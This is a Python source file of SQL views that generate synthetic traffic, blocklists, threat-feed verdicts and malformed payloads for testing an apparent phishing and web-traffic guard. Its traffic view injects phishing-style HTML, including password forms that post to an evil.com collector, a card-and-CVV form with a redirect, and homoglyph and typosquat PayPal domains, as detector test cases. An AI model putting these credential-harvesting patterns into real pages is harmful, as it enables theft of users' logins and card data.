"""Input views over the given tables, as SQL that Spark and DuckDB both accept.

The raw pages hold no forms, passwords or redirects, so the traffic view adds suspicious content by
page id. `{name}` stands for a table.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from tidegate.sources import readers

TABLES = "pages events region documents labels".split()

VIEWS = {
    "traffic": """
SELECT page_id AS request_id,
       CASE page_id % 12
         WHEN 1 THEN 'https://example.com/p/'
         WHEN 2 THEN 'https://login.example.com/p/'
         WHEN 3 THEN 'https://paypal-fake.com/login/'
         WHEN 4 THEN 'https://bank.com/login/'
         WHEN 5 THEN 'https://www.bank.com/login/'
         WHEN 6 THEN 'https://203.0.113.5/login/'
         WHEN 7 THEN 'https://paypa1.com/login/'
         WHEN 8 THEN 'http://localhost:3000/p/'
         WHEN 9 THEN 'https://sub.blocked-site.com/p/'
         WHEN 10 THEN 'https://login.evil-phish.com/p/'
         WHEN 11 THEN 'https://pаypal.com/login/'
         ELSE url END
       || CASE WHEN page_id % 12 = 0 THEN '' ELSE CAST(page_id AS VARCHAR(20)) END AS url,
       CASE page_id % 12
         WHEN 2 THEN replace(html, '<article>', '<article><form action="/login" method="post"><input type="text" name="username"><input type="password" name="password"></form>')
         WHEN 3 THEN replace(replace(html, '<title>', '<title>PayPal Login '), '<article>', '<article><input type="password"/>')
         WHEN 4 THEN replace(html, '<article>', '<article><form action="https://evil.com/collect" method="POST"><input type="password" name="password"></form>')
         WHEN 5 THEN replace(html, '<article>', '<article><meta http-equiv="refresh" content="0; url=https://evil.com/steal"><form><input name="card-number"><input id="cvv"></form>')
         WHEN 6 THEN replace(html, '<article>', '<article><form><input name="otp"></form>')
         WHEN 8 THEN replace(html, '<article>', '<article><form action="//other.com/s"><input name="q"></form>')
         ELSE html END AS html,
       CASE page_id % 5 WHEN 0 THEN 'POST' WHEN 4 THEN 'OPTIONS' ELSE 'GET' END AS method,
       CASE WHEN page_id % 7 = 6 THEN 'curl/8.0.1' ELSE 'Mozilla/5.0 Chrome/120.0.0.0' END AS user_agent,
       CASE WHEN page_id % 11 = 10 THEN 404 ELSE 200 END AS status_code,
       CASE page_id % 10 WHEN 7 THEN 'application/json' WHEN 8 THEN 'image/png' ELSE 'Text/HTML; charset=utf-8' END AS content_type,
       TIMESTAMP '2024-01-01 00:00:00' + page_id * INTERVAL '1' MINUTE AS ts,
       CASE WHEN page_id % 2 = 0 THEN 'test' ELSE 'prod' END AS environment,
       'agent-' || CAST(page_id % 20 AS VARCHAR(20)) AS agent_name
FROM {pages}
""",
    # Requests that exercise every traffic filter.
    "weblog": """
SELECT page_id AS request_id,
       CASE page_id % 9
         WHEN 1 THEN 'https://static.example.com/js/app.' || CAST(page_id AS VARCHAR(20)) || '.JS?v=1'
         WHEN 2 THEN 'https://img.example.com/favicon.ico'
         WHEN 3 THEN 'https://metrics-eu.example.org/v1/' || CAST(page_id AS VARCHAR(20))
         WHEN 4 THEN 'https://shop.example.com/Update/check'
         WHEN 5 THEN 'https://clients4.example.net/x'
         WHEN 6 THEN 'https://cdn.blocked-site.com/p/beacon'
         WHEN 7 THEN 'https://www.spam-farm.example.org/offer'
         ELSE url END AS url,
       CASE page_id % 6 WHEN 0 THEN 'POST' WHEN 1 THEN 'put' WHEN 4 THEN 'OPTIONS' WHEN 5 THEN 'HEAD' ELSE 'GET' END AS method,
       CASE page_id % 8
         WHEN 1 THEN 'curl/8.0.1'
         WHEN 2 THEN 'Mozilla/5.0 Chrome/120.0 Electron/28.0'
         WHEN 3 THEN ''
         WHEN 4 THEN 'Mozilla/5.0 FIREFOX/121.0'
         ELSE 'Mozilla/5.0 Chrome/120.0.0.0 Safari/537.36' END AS user_agent,
       CASE page_id % 7 WHEN 1 THEN 'image' WHEN 2 THEN 'Empty' WHEN 3 THEN 'document' ELSE '' END AS fetch_dest,
       CASE page_id % 13 WHEN 3 THEN 'keep-alive, Upgrade' ELSE 'keep-alive' END AS connection,
       CASE page_id % 13 WHEN 5 THEN 'WebSocket' WHEN 6 THEN 'h2c' ELSE '' END AS upgrade_to,
       CASE page_id % 17 WHEN 2 THEN 'group' ELSE '' END AS report_to,
       CASE page_id % 11 WHEN 10 THEN 404 WHEN 9 THEN 302 ELSE 200 END AS status_code,
       CASE page_id % 10 WHEN 7 THEN 'Image/png' WHEN 8 THEN 'font/woff2' ELSE 'text/html' END AS resp_type,
       CASE WHEN page_id % 14 = 3 THEN '' ELSE html END AS resp_body
FROM {pages}
""",
    # Lines of a custom blocklist: fixed ones, and every page address with a fragment or second page.
    "blocklist_lines": """
SELECT '# full line comment' AS value UNION ALL
SELECT '  Blocked-Site.com  # tail comment' UNION ALL
SELECT '' UNION ALL
SELECT 'https://BANK.com/' UNION ALL
SELECT 'example.com/no-scheme' UNION ALL
SELECT DISTINCT CASE WHEN url LIKE '%?page=2%' THEN url ELSE split_part(url, '#', 1) || '/' END
FROM {pages} WHERE url LIKE '%?page=2%' OR url LIKE '%#top'
""",
    # Lines of a privacy filter list: a fixed one, and the hosts that serve at least five pages.
    "filter_lines": """
SELECT '||spam-farm.example.org^' AS value UNION ALL
SELECT '! comment' UNION ALL
SELECT '##.banner' UNION ALL
SELECT '||no-caret.example' UNION ALL
SELECT '||' || split_part(split_part(url, '/', 3), '.', 2) || '.^$third-party'
FROM {pages} WHERE split_part(split_part(url, '/', 3), '.', 2) <> 'example'
GROUP BY split_part(split_part(url, '/', 3), '.', 2) HAVING count(*) >= 5
""",
    # Threat verdicts: a fixed listed domain, and every busy page host, listed or cleared.
    "threat_feed": """
SELECT 'evil-phish.com' AS domain, 'URLhaus' AS source, TRUE AS listed, TIMESTAMP '2024-01-01 00:00:00' AS observed_at UNION ALL
SELECT 'evil-phish.com', 'PhishTank', FALSE, TIMESTAMP '2024-01-01 00:00:00' UNION ALL
SELECT split_part(url, '/', 3), CASE WHEN count(*) % 2 = 0 THEN 'PhishTank' ELSE 'URLhaus' END, count(*) % 3 < 2,
       TIMESTAMP '2024-01-01 00:00:00' + min(page_id) * INTERVAL '1' MINUTE
FROM {pages} GROUP BY split_part(url, '/', 3) HAVING count(*) >= 4
""",
    # Verdicts of a domain over time, for lookups with a time to live.
    "verdicts": """
SELECT 'site-' || CAST(user_id AS VARCHAR(20)) || '.example' AS domain, event_id AS verdict_id, ts AS observed_at,
       event_type = 'error' AS listed, 'URLhaus' AS source
FROM {events} WHERE event_type IN ('error', 'signup')
""",
    "verdict_requests": """
SELECT event_id AS request_id, 'site-' || CAST(user_id AS VARCHAR(20)) || '.example' AS domain, ts
FROM {events} WHERE event_type IN ('view', 'click', 'purchase')
""",
    "guard_events": """
SELECT event_id, user_id AS session_id, ts,
       'https://' || event_type || CAST(event_id % 7 AS VARCHAR(20)) || '.example.com/' || CAST(event_id AS VARCHAR(20)) AS url,
       least(value / 100.0, 1.0) AS risk_score,
       CASE WHEN value >= 70.0 THEN 'Block' WHEN value >= 40.0 THEN 'Warn' ELSE 'Allow' END AS guard_action,
       CASE event_id % 3 WHEN 0 THEN 'POST' ELSE 'GET' END AS http_method,
       props AS headers_json
FROM {events}
""",
    "sessions": """
SELECT user_id AS session_id,
       CASE WHEN user_id % 4 = 0 THEN NULL ELSE user_id % 10 END AS user_id,
       min(ts) AS start_time,
       CASE WHEN user_id % 3 = 0 THEN NULL ELSE max(ts) END AS end_time,
       CASE WHEN user_id % 2 = 0 THEN 'test' ELSE 'prod' END AS environment,
       'agent-' || CAST(user_id % 20 AS VARCHAR(20)) AS agent_name
FROM {events} AS e GROUP BY e.user_id
UNION ALL
SELECT 1000000 + r_regionkey, NULL, (SELECT min(ts) FROM {events} AS f), NULL, 'test', 'idle'
FROM {region}
""",
    "lifecycle": """
SELECT event_id, ts,
       CASE event_type WHEN 'signup' THEN 'start' WHEN 'purchase' THEN 'stop' ELSE 'request' END AS action,
       CASE WHEN user_id % 2 = 0 THEN 'test' ELSE 'prod' END AS environment,
       'agent-' || CAST(user_id % 20 AS VARCHAR(20)) AS agent_name
FROM {events}
""",
    "rules_analysis": """
SELECT event_id * 10 + (event_id % 3) AS analysis_id, event_id,
       CASE event_id % 4 WHEN 0 THEN 'sensitive_fields' WHEN 1 THEN 'typosquatting'
                         WHEN 2 THEN 'ip_based_url' ELSE 'unregistered_rule' END AS rule_code,
       CASE WHEN event_id % 5 = 0 THEN NULL ELSE least(value / 100.0, 1.0) END AS rule_score,
       event_type AS details
FROM {events}
""",
    # A rules table as an operator left it: some rows of the registry, one with a weight of its own.
    "users": """
SELECT DISTINCT user_id % 10 AS user_id, 'user-' || CAST(user_id % 10 AS VARCHAR(20)) AS username, user_id % 10 = 0 AS is_admin
FROM {events}
""",
    # JSON payloads with faults by event id.
    "event_payloads": """
SELECT event_id AS payload_id,
       CASE event_id % 13
         WHEN 1 THEN '[]'
         WHEN 2 THEN '{{"url": "  ", "headers": 5, "method": "GET", "timestamp": "2024-01-01T00:00:00Z", "guard_action": "Allow", "risk_score": 0.5}}'
         WHEN 3 THEN '{{"url": "https://a.com", "method": "AVERYLONGMETHODNAME", "timestamp": "never", "guard_action": "allow", "risk_score": 1.5}}'
         WHEN 4 THEN '{{"headers": {{}}, "risk_score": "abc"}}'
         WHEN 5 THEN 'not json'
         ELSE '{{"url": " https://e.com/' || CAST(event_id AS VARCHAR(20)) || '", "headers": {{"k": "' || event_type
              || '"}}, "method": "get", "timestamp": "2024-01-02T03:04:05Z", "guard_action": "Warn", "risk_score": '
              || CASE WHEN value <= 100.0 THEN '0.25' ELSE '"7"' END || '}}' END AS payload
FROM {events}
""",
    "traffic_payloads": """
SELECT event_id AS payload_id,
       CASE event_id % 13
         WHEN 1 THEN '{{"url": "https://a.com", "body": null}}'
         WHEN 2 THEN '{{"url": "", "method": "GET", "headers": {{}}, "body": ""}}'
         WHEN 3 THEN '{{"url": "https://a.com", "method": 7, "headers": {{}}, "body": ""}}'
         WHEN 4 THEN '{{"url": "https://a.com", "method": "GET", "headers": [], "body": ""}}'
         WHEN 5 THEN '{{"url": "https://a.com", "method": "GET", "headers": {{}}, "body": "", "timestamp": "soon"}}'
         WHEN 6 THEN '{{"url": "https://a.com", "method": "GET", "headers": {{}}, "body": "", "environment": "dev"}}'
         WHEN 7 THEN '{{"url": "https://a.com", "method": "GET", "headers": {{}}, "body": "", "session_id": 0}}'
         WHEN 8 THEN '{{"url": "https://a.com", "method": "GET", "headers": {{}}, "body": "", "agent_name": " "}}'
         WHEN 9 THEN '"text"'
         ELSE '{{"url": "https://e.com/' || CAST(event_id AS VARCHAR(20)) || '", "method": "get", "headers": {{"k": "'
              || event_type || '"}}, "body": "x", "environment": " TEST ", "timestamp": "2024-01-02T03:04:05Z", "session_id": '
              || CAST(user_id + 1 AS VARCHAR(20)) || '}}' END AS payload
FROM {events}
""",
    "rule_payloads": """
SELECT event_id AS payload_id,
       CASE event_id % 11
         WHEN 1 THEN '{{"rule_code": "a"}}'
         WHEN 2 THEN '{{"rule_code": " ", "weight": 1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": false, "description": null}}'
         WHEN 3 THEN '{{"rule_code": "r", "weight": -1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": false, "description": null}}'
         WHEN 4 THEN '{{"rule_code": "r", "weight": 1, "rule_type": "magic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": false, "description": null}}'
         WHEN 5 THEN '{{"rule_code": "r", "weight": 1, "rule_type": "semantic", "compute_class": 3, "is_enabled": true, "is_hard_block": false, "description": null}}'
         WHEN 6 THEN '{{"rule_code": "r", "weight": 1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": 1, "is_hard_block": false, "description": null}}'
         WHEN 7 THEN '{{"rule_code": "r", "weight": 1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": "no", "description": null}}'
         WHEN 8 THEN '{{"rule_code": "r", "weight": 1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": false, "description": ""}}'
         WHEN 9 THEN '{{"rule_code": "sensitive_fields", "weight": 1, "rule_type": "semantic", "compute_class": "cheap", "is_enabled": true, "is_hard_block": false, "description": "d"}}'
         ELSE '{{"rule_code": "rule-' || CAST(user_id AS VARCHAR(20)) || '", "weight": "0.5", "rule_type": "semantic", "compute_class": "expensive", "is_enabled": false, "is_hard_block": true, "description": "' || event_type || '"}}' END AS payload
FROM {events}
""",
    "analysis_payloads": """
SELECT event_id AS payload_id,
       CASE event_id % 7
         WHEN 1 THEN '{{"event_id": 0, "rule_code": "a", "details": "d"}}'
         WHEN 2 THEN '{{"event_id": 5, "rule_code": "a rule code that is far too long to be taken", "details": "d"}}'
         WHEN 3 THEN '{{"event_id": 5, "rule_code": "a", "rule_score": 2, "details": "d"}}'
         WHEN 4 THEN '{{"event_id": 5, "rule_code": "a", "details": " "}}'
         ELSE '{{"event_id": ' || CAST(event_id + 1 AS VARCHAR(20)) || ', "rule_code": " sensitive_fields ", "rule_score": null, "details": "' || event_type || '"}}' END AS payload
FROM {events}
""",
    "session_payloads": """
SELECT event_id AS payload_id,
       CASE event_id % 5
         WHEN 1 THEN '{{"start_time": 5, "agent_name": "a", "environment": "test"}}'
         WHEN 2 THEN '{{"start_time": "2024-01-01", "agent_name": "a name of more than twenty characters", "environment": "test"}}'
         WHEN 3 THEN '{{"start_time": "2024-01-01", "agent_name": "a", "environment": "TEST"}}'
         ELSE '{{"start_time": "2024-01-01T05:06:07+01:00", "agent_name": " agent-' || CAST(user_id AS VARCHAR(20)) || ' ", "environment": "prod"}}' END AS payload
FROM {events}
""",
}


def sql(name: str) -> str:
    """Text of a view for an engine that knows the tables by name."""
    return VIEWS[name].format(**{t: t for t in TABLES})


def load(spark: SparkSession, sf_dir: str, name: str, stream: bool = False, max_files: int | None = None) -> DataFrame:
    """A view over the parquet tables below `sf_dir`, or over streams of their files; local times are read as UTC."""
    text = VIEWS[name]
    names = [t for t in TABLES if "{" + t + "}" in text]
    paths = {t: f"{sf_dir}/{t}.parquet" for t in names}
    used = {t: readers.stream_table(spark, p, max_files) if stream else spark.read.parquet(p) for t, p in paths.items()}
    frame = spark.sql(text, **used)
    for column, kind in frame.dtypes:
        if kind == "timestamp_ntz":
            frame = frame.withColumn(column, F.col(column).cast("timestamp"))
    return frame


def traffic(spark: SparkSession, sf_dir: str, stream: bool = False, max_files: int | None = None) -> DataFrame:
    """The traffic view in the traffic schema; pages are both request and response bodies."""
    raw = load(spark, sf_dir, "traffic", stream, max_files)
    return raw.select(
        "request_id",
        F.col("ts").alias("timestamp"),
        "method",
        "url",
        F.create_map(
            F.lit("User-Agent"), "user_agent", F.lit("Content-Type"), "content_type"
        ).alias("req_headers"),
        F.col("html").alias("body"),
        "environment",
        "agent_name",
        F.lit(None).cast("long").alias("session_id"),
        "status_code",
        F.create_map(F.lit("Content-Type"), "content_type").alias("resp_headers"),
        F.col("html").alias("resp_body"),
    )


def weblog(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The filter view in the traffic schema."""
    raw = load(spark, sf_dir, "weblog")
    names = [("User-Agent", "user_agent"), ("Sec-Fetch-Dest", "fetch_dest"), ("Connection", "connection"),
             ("Upgrade", "upgrade_to"), ("Report-To", "report_to")]
    pairs = [c for header, column in names for c in (F.lit(header), F.col(column))]
    return raw.select(
        "request_id", "method", "url", "status_code", "resp_body",
        F.create_map(*pairs).alias("req_headers"),
        F.create_map(F.lit("Content-Type"), "resp_type").alias("resp_headers"),
    )
